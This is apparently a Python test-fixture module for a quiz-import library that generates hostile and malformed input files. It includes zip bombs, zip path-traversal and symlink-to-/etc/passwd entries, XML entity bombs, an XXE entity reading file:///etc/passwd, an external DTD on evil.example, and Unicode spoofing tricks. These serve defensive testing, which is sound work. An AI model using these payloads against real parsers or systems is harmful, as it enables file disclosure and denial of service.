"""Files that were made to harm, or that something happened to, under the names of their kinds.

Each maker writes one file, or folder, or pipe, and returns where it is.
"""

import io
import os
import struct
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

Maker = Callable[[Path], Path]

ITEM = (
    '<assessmentItem identifier="i" title="T"><responseDeclaration identifier="R"'
    ' cardinality="single" baseType="identifier"><correctResponse><value>A</value>'
    '</correctResponse></responseDeclaration><itemBody><choiceInteraction responseIdentifier="R"'
    ' maxChoices="1"><simpleChoice identifier="A">a</simpleChoice><simpleChoice identifier="B">b'
    "</simpleChoice></choiceInteraction></itemBody></assessmentItem>"
)
_QUIZ = "<?xml version='1.0'?>{}<quiz>{}</quiz>"
_ESSAY = "<question type='essay'><questiontext><text>{}</text></questiontext></question>"
_LAUGHS = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
_OPTIONS = (
    '{{"questions":[{{"kind":"mc_single","stem":"Q?","options":['
    '{{"text":"{}","correct":true}},{{"text":"{}","correct":false}}]}}]}}'
)
_COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def _file(name: str, content: bytes | str) -> Maker:
    def make(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(content.encode() if isinstance(content, str) else content)
        return path

    return make


def _package(name: str, files: Mapping[str, bytes | str]) -> Maker:
    return _file(name, _packed(files))


def _packed(files: Mapping[str, bytes | str]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in files.items():
            package.writestr(name, content)
    return target.getvalue()


def _lying() -> bytes:
    """Return a package that says of a large file that it is a small one."""
    data = bytearray(_packed({"item.xml": b" " * 20_000_000}))
    place = data.rfind(b"PK\x01\x02") + 24
    data[place : place + 4] = struct.pack("<I", 100)
    data[22:26] = struct.pack("<I", 100)
    return bytes(data)


def _protected() -> bytes:
    data = bytearray(_packed({"item.xml": ITEM}))
    data[6] |= 1
    data[data.rfind(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def _link() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as package:
        entry = zipfile.ZipInfo("item.xml")
        entry.external_attr = 0o120777 << 16
        package.writestr(entry, "/etc/passwd")
    return target.getvalue()


def _pipe(name: str) -> Maker:
    def make(folder: Path) -> Path:
        os.mkfifo(folder / name)
        return folder / name

    return make


def _folder(name: str) -> Maker:
    def make(folder: Path) -> Path:
        (folder / name).mkdir()
        return folder / name

    return make


def _link_to(name: str, target: str) -> Maker:
    def make(folder: Path) -> Path:
        (folder / name).symlink_to(target)
        return folder / name

    return make


HOSTILE: Mapping[str, Maker] = {
    "zip bomb, ratio": _package("a.zip", {"item.xml": b" " * 12_000_000}),
    "zip bomb, count": _package("a.zip", {f"{n}.xml": ITEM for n in range(2_001)}),
    "zip bomb, nested": _package("a.zip", {"a.zip": _packed({"b": b"\0" * 10_000})}),
    "zip bomb, size lie": _file("a.zip", _lying()),
    "zip bomb in a workbook": _package("a.xlsx", {"xl/workbook.xml": b"\0" * 40_000_000}),
    "zip, path traversal": _package("a.zip", {"../../evil.xml": ITEM}),
    "zip, absolute path": _package("a.zip", {"/etc/evil.xml": ITEM}),
    "zip, link": _file("a.zip", _link()),
    "zip, password": _file("a.zip", _protected()),
    "zip, truncated": _file("a.zip", _packed({"item.xml": ITEM})[:-30]),
    "zip, nothing in it": _file("a.zip", b"PK\x05\x06" + b"\0" * 18),
    "entity bomb": _file(
        "a.xml", _QUIZ.format(f"<!DOCTYPE quiz [<!ENTITY e0 'x'>{_LAUGHS}]>", _ESSAY.format("&e9;"))
    ),
    "entity bomb, quadratic": _file(
        "a.xml",
        _QUIZ.format(f"<!DOCTYPE quiz [<!ENTITY e '{'x' * 50_000}'>]>", _ESSAY.format("&e;" * 500)),
    ),
    "entity of a file": _file(
        "a.xml",
        _QUIZ.format(
            "<!DOCTYPE quiz [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", _ESSAY.format("&e;")
        ),
    ),
    "document type elsewhere": _file(
        "a.xml",
        "<!DOCTYPE questestinterop SYSTEM 'https://evil.example/x.dtd'><questestinterop/>",
    ),
    "elements inside each other": _file("a.xml", _QUIZ.format("", "<a>" * 100_000)),
    "an endless attribute": _file("a.xml", f"<quiz><question type='{'x' * 2_000_000}'/></quiz>"),
    "broken XML": _file("a.xml", "<quiz><question type='essay'><name>"),
    "an encoding that nobody knows": _file("a.xml", "<?xml version='1.0' encoding='x-9'?><quiz/>"),
    "an endless line of a table": _file("a.csv", b"title,date\n" + b"x" * 3_000_000),
    "an endless line of questions": _file("a.gift", b"x" * 3_000_000),
    "an endless text of JSON": _file("a.json", b'{"questions":["' + b"x" * 3_000_000),
    "an endless line of XML": _file("a.xml", b"<quiz>" + b"x" * 3_000_000),
    "a quotation mark without end": _file("a.csv", 'title,date\n"' + "x\n" * 500_000),
    "too many lines": _file("a.gift", "a\n" * 500_000),
    "braces without end": _file("a.gift", "{" * 100_000),
    "answers without end": _file("a.gift", "Q {" + "~a" * 50_000 + "}"),
    "an impossible share": _file("a.gift", f"Q {{~%{'9' * 400}%a ~b}}"),
    "an endless text of a question": _file("a.gift", "\\" * 100_001),
    "only a category": _file("a.gift", "$CATEGORY: a/b\n"),
    "NUL in a table": _file("a.csv", "title,date\nA\0B,1918\n"),
    "NUL in questions": _file("a.gift", "Q\0 {=a ~b}"),
    "turned writing in a table": _file("a.csv", "title,date\nA\u202eB,1918\n"),
    "turned writing in a question": _file("a.gift", "Q \u202eabc {=a ~b}"),
    "turned writing in plain text": _file("a.gift", "[plain]Q \u202eabc {=a ~b}"),
    "tags that nobody sees": _file("a.gift", "Q \U000e0041 {=a ~b}"),
    "turned writing in JSON": _file("a.json", _OPTIONS.format("\u202ebc", "d")),
    "turned writing in a set": _file(
        "a.json", '{"quizapp":1,' + _OPTIONS.format("\u202ea", "b")[1:]
    ),
    "an endless text of a set": _file("a.json", _OPTIONS.format("a" * 20_001, "b")),
    "options that look alike": _file("a.gift", "Q? {=Баку ~Бaку}"),
    "options that look alike in JSON": _file("a.json", _OPTIONS.format("Ənvər", "Әnvər")),
    "options that differ in nothing to be seen": _file("a.gift", "Q? {=a\u200cb ~ab}"),
    "JSON without questions": _file("a.json", '{"questions":[]}'),
    "a control character": _file("a.gift", "[plain]Q \x07 {=a ~b}"),
    "a picture named GIFT": _file("a.gift", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\xff\xfe"),
    "a table named workbook": _file("a.xlsx", "title,date\na,1918\n"),
    "a package named table": _package("a.csv", {"a": "b"}),
    "a PDF named table": _file("a.csv", b"%PDF-1.4"),
    "a web page named table": _file("a.csv", "<!doctype html><html>404</html>"),
    "a web page named XML": _file("a.xml", "<!doctype html><html>404</html>"),
    "a protected workbook": _file("a.xlsx", _COMPOUND + b"\0" * 2_000),
    "an old workbook of a new name": _file("a.xlsm", _COMPOUND + b"\0" * 2_000),
    "an old workbook": _file("a.xls", _COMPOUND + b"\0" * 2_000),
    "JSON without end": _file("a.json", '{"questions":' + "[" * 50_000),
    "JSON, no number": _file("a.json", '{"questions":[{"kind":"essay","stem":NaN}]}'),
    "JSON, endless number": _file("a.json", '{"questions":[{"kind":"numeric","stem":1e999}]}'),
    "JSON, a key twice": _file("a.json", '{"questions":[],"questions":[]}'),
    "JSON, half a character": _file("a.json", '{"questions":[{"kind":"essay","stem":"\\ud800"}]}'),
    "JSON, cut off": _file("a.json", '{"questions":[{"kind":"essay"'),
    "JSON, no object": _file("a.json", "[1, 2]"),
    **{f"empty {suffix}": _file(f"a.{suffix}", "") for suffix in ("csv", "gift", "xml", "json")},
    **{f"pipe {suffix}": _pipe(f"a.{suffix}") for suffix in ("csv", "gift", "zip", "json", "xml")},
    **{f"folder {suffix}": _folder(f"a.{suffix}") for suffix in ("gift", "zip", "xlsx", "json")},
    **{
        f"/dev/zero as {suffix}": _link_to(f"a.{suffix}", "/dev/zero")
        for suffix in ("csv", "gift", "zip", "json", "xml", "xlsx")
    },
    "a link to itself": _link_to("a.csv", "a.csv"),
    "a link to nothing": _link_to("a.gift", "missing"),
    "a device": lambda _folder: Path("/dev/zero"),
    "nothing there": lambda folder: folder / "missing.csv",
    "a name that is too long": lambda folder: folder / f"{'x' * 300}.csv",
    "a name that is none": lambda folder: folder / "a\0b.csv",
}
"""Makers of files, none of which may come into a library, by what is the matter with them."""
